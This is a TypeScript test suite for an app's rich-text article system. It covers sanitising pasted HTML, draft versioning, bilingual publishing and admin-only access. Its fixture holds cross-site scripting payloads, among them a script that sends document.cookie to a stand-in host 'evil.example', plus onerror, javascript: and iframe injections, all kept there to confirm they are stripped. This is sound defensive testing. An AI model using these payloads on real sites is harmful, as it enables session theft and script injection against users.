import { describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import type { Article } from '@miaoyu/contracts';
import { users } from '../../db/schema';
import { chatUsers, CHAT_TEST_ENV } from '../../../test/chat';
import { DATABASE_KINDS } from '../../../test/databases';
import { useTestApp } from '../../../test/harness';

/** What an editor's paste from a web page can carry, with a heading and a list worth keeping. */
const PASTED = [
  '<h2 style="color:red" onclick="steal()">第一条 服务内容</h2>',
  '<p>妙语 AI Studio 向你提供<strong>智能对话</strong>服务。<script>fetch("https://evil.example/?c="+document.cookie)</script></p>',
  '<p><img src="x" onerror="alert(1)">图片说明</p>',
  '<ul><li>不得上传违法内容</li><li><a href="javascript:alert(1)">点这里</a> 或 <a href="https://example.com/help">帮助中心</a></li></ul>',
  '<xmp><script>alert(2)</script></xmp>',
  '<iframe src="https://evil.example"></iframe><svg><script>alert(3)</script></svg>',
  '<style>body{display:none}</style><p>最后更新：2026 年 11 月</p>',
].join('');

describe.each(DATABASE_KINDS)('rich-text articles on %s', (kind) => {
  const t = useTestApp(kind, CHAT_TEST_ENV);
  const user = chatUsers(t);

  async function admin(phone: string) {
    const caller = await user(phone);
    await t.app.db
      .update(users)
      .set({ role: 'admin' })
      .where(eq(users.id, BigInt(caller.id)));
    return caller;
  }

  const open = (url: string, locale = 'zh-CN') =>
    t.app.inject({ method: 'GET', url, headers: { 'accept-language': locale } });

  it('is written in two languages, sanitised, published and read by anyone, signed out', async () => {
    const editor = await admin('13900370001');
    const made = await editor.post('/v1/admin/articles', { keyword: 'Terms', category: 'page' });
    expect(made.statusCode, made.body).toBe(200);
    const article = made.json() as Article;
    expect(article.keyword).toBe('terms');
    const id = article.id;

    const save = (locale: string, title: string, html: string, baseVersion: number) =>
      editor.put(`/v1/admin/articles/${id}/${locale}`, { title, html, baseVersion });
    const zh = await save('zh-CN', '服务条款', PASTED, 0);
    expect(zh.statusCode, zh.body).toBe(200);
    const stored = (zh.json() as Article).drafts.find((d) => d.locale === 'zh-CN')!;
    expect(stored.html).toContain('<h2>第一条 服务内容</h2>');
    expect(stored.html).toContain('<strong>智能对话</strong>');
    expect(stored.html).toContain('<li>不得上传违法内容</li>');
    expect(stored.html).toContain(
      '<a href="https://example.com/help" target="_blank" rel="noopener noreferrer nofollow">帮助中心</a>',
    );
    for (const gone of [
      '<script',
      'onerror',
      'onclick',
      'javascript:',
      '<iframe',
      '<svg',
      '<style',
      'alert',
      'style="',
      '<img',
      '<xmp',
    ])
      expect(stored.html).not.toContain(gone);

    // Saving over a version newer than the one opened is refused, nothing written.
    expect((await save('zh-CN', '服务条款', '<p>旧的</p>', 0)).statusCode).toBe(409);
    // Nothing but markup is nothing.
    const empty = await save('zh-CN', '服务条款', '<p><script>x</script></p>', 1);
    expect(empty.statusCode).toBe(422);
    expect(empty.json().code).toBe('ARTICLE_EMPTY');
    const v2 = await save('zh-CN', '服务条款', '<p>第二版条款</p>', 1);
    expect(v2.statusCode).toBe(200);
    await save('en-US', 'Terms of Service', '<p>The <em>English</em> terms.</p>', 0);

    // Unpublished: nobody reads it yet.
    expect((await open('/richText/terms')).statusCode).toBe(404);
    const published = await editor.put(`/v1/admin/articles/${id}/zh-CN/published`, { version: 1 });
    expect(published.statusCode, published.body).toBe(200);
    await editor.put(`/v1/admin/articles/${id}/en-US/published`, { version: 1 });

    const zhPage = await open('/richText/terms');
    expect(zhPage.statusCode).toBe(200);
    // The published version, not the newer draft.
    expect(zhPage.body).toContain('<strong>智能对话</strong>');
    expect(zhPage.body).not.toContain('第二版条款');
    expect(zhPage.body).not.toMatch(/<script/i);
    expect(zhPage.body).toContain('<html lang="zh-CN">');
    expect(zhPage.body).toContain('href="/richText/terms?lang=en-US"');
    expect(String(zhPage.headers['content-security-policy'])).toContain("default-src 'none'");
    const enPage = await open('/richText/terms', 'en-US');
    expect(enPage.body).toContain('The <em>English</em> terms.');
    expect((await open('/richText/terms?lang=en-US')).body).toContain('Terms of Service');

    const list = (await editor.get('/v1/admin/articles')).json();
    expect(list.list[0].variants).toEqual([
      expect.objectContaining({ locale: 'zh-CN', draft: 2, published: 1, title: '服务条款' }),
      expect.objectContaining({ locale: 'en-US', draft: 1, published: 1 }),
    ]);
    // Taken down, gone at once.
    await editor.del(`/v1/admin/articles/${id}/zh-CN/published`);
    expect((await open('/richText/terms?lang=zh-CN')).body).toContain('Terms of Service');
    await editor.del(`/v1/admin/articles/${id}/en-US/published`);
    expect((await open('/richText/terms')).statusCode).toBe(404);
    expect((await open('/richText/%3Cscript%3E')).statusCode).toBe(404);
  });

  it('keeps keywords unique, and shows published announcements on the workplace', async () => {
    const editor = await admin('13900370002');
    const made = (
      await editor.post('/v1/admin/articles', { keyword: 'notice-1', category: 'announcement' })
    ).json();
    expect((await editor.post('/v1/admin/articles', { keyword: 'notice-1' })).statusCode).toBe(409);
    await editor.put(`/v1/admin/articles/${made.id}/zh-CN`, {
      title: '十二月维护通知',
      html: '<p>12 月 5 日凌晨维护。</p>',
      baseVersion: 0,
    });
    const reader = await user('13900370003');
    const before = (await reader.get('/v1/workplace/overview')).json();
    expect(before.announcements.map((a: { keyword: string }) => a.keyword)).not.toContain(
      'notice-1',
    );
    await editor.put(`/v1/admin/articles/${made.id}/zh-CN/published`, { version: 1 });
    const after = (await reader.get('/v1/workplace/overview')).json();
    expect(after.announcements[0]).toMatchObject({ keyword: 'notice-1', title: '十二月维护通知' });
    // Someone who is not a platform admin cannot write articles.
    expect((await reader.post('/v1/admin/articles', { keyword: 'mine' })).statusCode).toBe(403);
  });
});
